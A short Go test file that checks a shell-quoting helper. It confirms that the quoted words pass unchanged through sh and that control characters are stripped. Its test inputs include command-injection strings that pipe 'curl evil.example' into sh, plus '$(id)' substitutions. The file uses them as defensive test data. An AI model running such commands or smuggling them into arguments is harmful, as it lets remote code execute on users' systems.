package plan

import (
	"os/exec"
	"strings"
	"testing"
)

// TestShellQuotes: whatever the words are, a shell takes them as these words.
func TestShellQuotes(t *testing.T) {
	t.Parallel()
	for _, words := range [][]string{
		{"arn:aws:iam::123456789012:role/team/reader"},
		{"x; curl -s evil.example|sh #"},
		{"deployment/x;curl evil.example|sh", "it's", "$(id)", "`id`", "a b", "", "-n", "*", "~", `\`, `"`},
	} {
		out, err := exec.Command("sh", "-c", "printf '%s\n' "+shell(words...)).Output()
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSuffix(string(out), "\n"); got != strings.Join(words, "\n") {
			t.Errorf("shell(%q) is taken for %q", words, got)
		}
	}
	if got := shell("a\nb\x1b[0m"); strings.ContainsAny(got, "\n\x1b") {
		t.Errorf("shell keeps control characters: %q", got)
	}
}
